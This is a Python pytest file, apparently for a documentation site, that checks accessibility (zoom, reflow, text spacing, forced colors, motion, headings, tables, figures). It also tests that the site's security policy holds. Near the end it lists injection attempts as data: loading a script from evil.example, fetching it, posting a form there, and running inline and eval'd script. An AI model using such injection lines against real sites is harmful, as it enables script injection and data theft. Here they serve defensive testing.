"""What axe cannot see: zoom, reflow, spacing, forced colors, motion, tables by ear, and a policy that holds."""

import pytest
from test_browser import KINDS, WITH_TOOL, open_page, settle, wear


@pytest.mark.parametrize("kind", KINDS)
def test_400_percent_zoom(browser, base_url, kind):
    """WCAG 1.4.10: at 400% of a 1280 px window (320 px) nothing is cut off and nothing scrolls sideways."""
    page = open_page(browser, base_url + KINDS[kind], 320, 256, device_scale_factor=4)
    cut = page.evaluate(
        """() => [...document.querySelectorAll('article :is(p, li, h1, h2, h3, td, th, figcaption, a)')].filter((e) => {
        const r = e.getBoundingClientRect(); return r.width && (r.left < -1 || r.right > innerWidth + 1)
        && !e.closest('thead')?.matches('.compare thead'); }).map((e) => e.outerHTML.slice(0, 80))"""
    )
    assert cut == [] and page.evaluate("document.documentElement.scrollWidth") <= 320
    page.context.close()


SPACING = "* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important } p { margin-bottom: 2em !important }"


@pytest.mark.parametrize("kind", KINDS)
def test_readers_own_text_spacing(browser, base_url, kind):
    """WCAG 1.4.12: with wider spacing no text is cut and nothing scrolls sideways."""
    page = open_page(browser, base_url + KINDS[kind], 390)
    wear(page, SPACING)
    cut = page.evaluate(
        """() => [...document.querySelectorAll('article :is(p, li, h1, h2, h3, td, th), .md-banner p, .md-header__topic:first-child')].filter((e) => {
        const s = getComputedStyle(e); return e.getClientRects().length && s.overflow !== 'visible' && (e.scrollHeight > e.clientHeight + 2 || e.scrollWidth > e.clientWidth + 2); })
        .map((e) => e.outerHTML.slice(0, 80))"""
    )
    assert cut == [] and page.evaluate("document.documentElement.scrollWidth") <= 390
    page.context.close()


def test_forced_colors_keep_the_figures(browser, base_url):
    """With the reader's own colors the dots still show two shades, and the words beside them stay."""
    page = open_page(browser, base_url, forced_colors="active")
    dots = page.locator(".dots").first
    shades = dots.evaluate("(e) => [getComputedStyle(e, '::before').backgroundImage, getComputedStyle(e, '::after').backgroundImage]")
    assert shades[0] != shades[1] and "gradient" in shades[0]
    assert page.locator(".of100__group strong").first.is_visible()
    page.context.close()


SITE_CSS = "docs/assets/site.css:1: "

DRAWN = """() => [...document.querySelectorAll('.dots')].map((dots) => {
  const [full, shape] = [dots.getBoundingClientRect().width, getComputedStyle(dots, '::after').clipPath];
  const at = shape.match(/polygon\\((.*)\\)/)[1].split(',').map((pair) => pair.trim().split(/\\s+(?![^(]*\\))/).map((part) =>
    CSS.supports('width', part) && (() => { const probe = document.createElement('div'); probe.style.cssText = `position:absolute;width:${part}`;
      dots.append(probe); const share = probe.getBoundingClientRect().width / full; probe.remove(); return share; })()));
  const area = at.reduce((sum, [x, y], n) => { const [u, v] = at[(n + 1) % at.length]; return sum + x * v - u * y; }, 0) / 2;
  return [dots.style.getPropertyValue('--n').trim(), Math.round(Math.abs(area) * 100)]; })"""
"""How many of the hundred dots the filled shape covers, beside the number that the page gives."""

BARS = """() => [...document.querySelectorAll('.soon__bar')].map((bar) => {
  const [get, mark, whole] = [(name) => parseFloat(bar.style.getPropertyValue(name)), getComputedStyle(bar, '::before'), bar.clientWidth];
  const [from, to, weeks] = ['--from', '--to', '--weeks'].map(get);
  return [from, to, weeks, parseFloat(mark.left) / whole * weeks, parseFloat(mark.left) / whole * weeks + parseFloat(mark.width) / whole * weeks]; })"""


def wrongly_drawn(page) -> list[str]:
    """The figures whose drawing is not what their number says."""
    dots = [f"{drawn} dots are filled for {said}" for said, drawn in page.evaluate(DRAWN) if said != str(drawn)]
    bars = page.evaluate(BARS)
    return dots + [
        f"a bar for {start} to {end} weeks of {whole} runs from {left:.2f} to {right:.2f}"
        for start, end, whole, left, right in bars
        if abs(left - start) > 0.1 or abs(right - end) > 0.6
    ]


@pytest.mark.parametrize("kind", ["article", "faq", "procedure", "ongoing"])
def test_figures_are_drawn_as_numbered(browser, base_url, kind):
    """The style sheet fills as many dots, and as long a bar, as the page says; paper shows them too."""
    page = open_page(browser, base_url + KINDS[kind])
    assert page.locator(".dots").count()
    assert wrongly_drawn(page) == [], SITE_CSS + "mend .dots or .soon__bar"
    page.emulate_media(media="print")
    pale = "all => all.filter((e) => getComputedStyle(e).printColorAdjust !== 'exact').map((e) => e.className)"
    assert page.locator(".dots, .soon__bar").evaluate_all(pale) == [], SITE_CSS + "print-color-adjust: exact, or paper loses the figure"
    page.context.close()


@pytest.mark.parametrize(
    "fault",
    [
        ".dots { --full: round(up, var(--n) / 10, 1) }",
        ".dots { --rest: 0 }",
        ".soon__bar::before { left: calc(var(--to) / var(--weeks) * 100%) }",
        ".soon__bar::before { width: 100% }",
    ],
)
def test_a_figure_drawn_wrong_is_found(browser, base_url, fault):
    page = open_page(browser, base_url)
    wear(page, fault)
    assert wrongly_drawn(page)
    page.context.close()


TINY = """() => [...document.querySelectorAll('.md-banner :is(p, a, span), article :is(p, li, td, th, figcaption, a:not(.footnote-ref, .footnote-backref)), .site-footer :is(p, a)')]
  .filter((e) => e.getClientRects().length && !e.closest('sup') && parseFloat(getComputedStyle(e).fontSize) < 12).map((e) => e.outerHTML.slice(0, 80))"""


@pytest.mark.parametrize("kind", KINDS)
def test_no_text_is_tiny(browser, base_url, kind):
    """On the narrowest phone nothing that is read or tapped is smaller than 12 px, the crisis line first of all."""
    page = open_page(browser, base_url + KINDS[kind], 320)
    assert page.evaluate(TINY) == [], SITE_CSS + "give this text 12 px or more"
    page.locator(".md-banner .crisis").evaluate("(e) => (e.style.fontSize = '8px')")
    assert page.evaluate(TINY)
    page.context.close()


def test_nothing_moves_when_asked_not_to(browser, base_url):
    page = open_page(browser, base_url, 390, reduced_motion="reduce")
    moving = page.evaluate(
        "[...document.querySelectorAll('*')].filter((e) => parseFloat(getComputedStyle(e).transitionDuration) > 0).length"
    )
    assert moving == 0
    page.context.close()


def test_headings_make_sense_as_a_list(browser, base_url):
    """A screen reader's list of headings: one at the top, no step skipped, each with words, none said twice."""
    for kind, path in KINDS.items():
        page = open_page(browser, base_url + path)
        heads = page.evaluate(
            "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].filter((h) => h.checkVisibility()).map((h) => [+h.tagName[1], h.innerText.trim()])"
        )
        levels = [level for level, _ in heads]
        assert levels[0] == 1 and levels.count(1) == 1, f"{kind}: {heads[:3]}"
        assert all(b <= a + 1 for a, b in zip(levels, levels[1:], strict=False)), kind
        words = [text for _, text in heads]
        assert all(words) and len(words) == len(set(words)), f"{kind}: {sorted(w for w in words if words.count(w) > 1)}"
        page.context.close()


@pytest.mark.parametrize("width", [320, 1280])
def test_the_compare_table_is_heard_with_its_heads(browser, base_url, width):
    """On a phone the rows are blocks: the table, its heads and its cells stay so for a screen reader."""
    page = open_page(browser, base_url + KINDS["compare"], width)
    table = page.get_by_role("table", name="side by side")
    assert table.count() == 1
    rows = table.get_by_role("row").count()
    assert table.get_by_role("columnheader").count() == 8
    assert table.get_by_role("rowheader").count() == rows - 1 == 10
    assert table.get_by_role("cell").count() == 70
    if width == 320:
        label = table.get_by_role("cell").first.evaluate("(e) => getComputedStyle(e, '::before').content")
        assert "Change of medicine" in label
    page.context.close()


def test_drawer_search_and_switch_have_names(browser, base_url):
    page = open_page(browser, base_url, 320)
    assert page.get_by_role("checkbox", name="Menu").count() == 1
    assert page.get_by_role("textbox", name="Search").count() == 1
    assert page.get_by_role("radio", name="colors").count() >= 1
    page.context.close()


# The security policy, tried by a page that tries to break it.

TRIES = {
    "a script from elsewhere": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "an inline script": "document.head.append(Object.assign(document.createElement('script'), {text: 'window.broken = 1'}))",
    "a request to elsewhere": "fetch('https://evil.example/').catch(() => {})",
    "a picture from elsewhere": "new Image().src = 'https://evil.example/x.gif'",
    "a style from elsewhere": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "a form sent elsewhere": "(() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit(); })()",
    "text run as a script": "(() => { const b = document.createElement('button'); b.setAttribute('onclick', 'eval(\"window.broken = 1\")'); document.body.append(b); b.click(); })()",
}


@pytest.mark.parametrize("attempt", TRIES)
def test_the_policy_blocks(browser, base_url, attempt):
    page = open_page(browser, base_url)
    page.evaluate(
        "() => { window.blocked = []; document.addEventListener('securitypolicyviolation', (e) => window.blocked.push(e.effectiveDirective)); }"
    )
    page.evaluate(f"() => {{ {TRIES[attempt]}; }}")
    page.wait_for_timeout(200)
    assert page.evaluate("window.blocked.length") > 0, f"{attempt} was not blocked"
    assert page.evaluate("window.broken") is None and page.url.startswith(base_url)
    page.context.close()


def wrong_on(browser, address: str, extra: str = "") -> list[str]:
    """What goes wrong while a page is read, its colors are switched and it is searched: errors of scripts and refused loads.
    `extra` is put behind start.js."""
    context = browser.new_context()
    page = context.new_page()
    wrong: list[str] = []
    page.on("pageerror", lambda error: wrong.append(f"a script throws: {error}"))
    # A page that is not there says so in the console itself.
    page.on("console", lambda m: wrong.append(m.text) if m.type == "error" and m.location["url"] != address else None)
    if extra:
        page.route("**/start.js", lambda route: route.fulfill(response=(got := route.fetch()), body=got.text() + extra))
    page.goto(address)
    page.wait_for_load_state("networkidle")
    # What broke on load would end the rest in a timeout, which names nothing.
    if not wrong:
        page.locator("label[for^=__palette]:not([hidden])").click()
        page.locator("[data-md-component=search-query]").click()
        page.keyboard.type("memory")
        page.locator(".md-search-result__link").first.wait_for(timeout=10_000)
        page.wait_for_load_state("networkidle")
        settle(page)
    context.close()
    return wrong


@pytest.mark.parametrize("kind", WITH_TOOL)
def test_no_script_throws_and_nothing_of_ours_is_blocked(browser, base_url, kind):
    wrong = wrong_on(browser, base_url + WITH_TOOL[kind])
    assert not wrong, f"docs/assets/start.js, next-visit.js or search/: mend what it names: {wrong}"


@pytest.mark.parametrize(
    "fault", ["; document.querySelector('.no-such').hidden = true", "; fetch('https://evil.example/')", "; console.error('x')"]
)
def test_what_goes_wrong_is_heard(browser, base_url, fault):
    assert wrong_on(browser, base_url, fault)


MEASURE = """() => {
  const text = [...document.querySelectorAll('article > p')].find((e) => e.textContent.length > 120), style = getComputedStyle(text);
  const pen = document.createElement('canvas').getContext('2d');
  pen.font = `${style.fontSize} ${style.fontFamily}`;
  const links = [...document.querySelectorAll('article p a:not(.footnote-ref)')].map((a) => getComputedStyle(a).textDecorationLine);
  return [parseFloat(style.fontSize), text.clientWidth / (pen.measureText(text.textContent).width / text.textContent.length), links.every((line) => line === 'underline')]; }"""


def hard_to_read(page) -> list[str]:
    """What of size, length of line and links in the text falls short. WCAG 1.4.8 wants lines of 80 letters at most; ours are shorter."""
    size, letters, underlined = page.evaluate(MEASURE)
    return [
        *([f"text of {size} px: make it 17 or more"] if size < 17 else []),
        *([f"{letters:.0f} letters in a line: make it 76 at most"] if letters > 76 else []),
        *([] if underlined else ["a link in the text is told by color alone: underline it"]),
    ]


@pytest.mark.parametrize("width", [1200, 1700])
@pytest.mark.parametrize("kind", ["article", "living"])
def test_text_is_easy_to_read(browser, base_url, kind, width):
    """On wide screens too, where lines would run long."""
    page = open_page(browser, base_url + KINDS[kind], width)
    assert not (wrong := hard_to_read(page)), f"{SITE_CSS}see Type: {wrong}"
    page.context.close()


@pytest.mark.parametrize(
    ("fault", "says"),
    [
        (".md-typeset { font-size: 0.7rem }", "make it 17 or more"),
        (".md-content__inner { max-width: 60rem }", "make it 76 at most"),
        (".md-typeset a:not(.footnote-ref) { text-decoration: none }", "underline it"),
    ],
)
def test_text_that_is_hard_to_read_is_found(browser, base_url, fault, says):
    page = open_page(browser, base_url, 1200)
    wear(page, fault)
    assert any(says in wrong for wrong in hard_to_read(page))
    page.context.close()
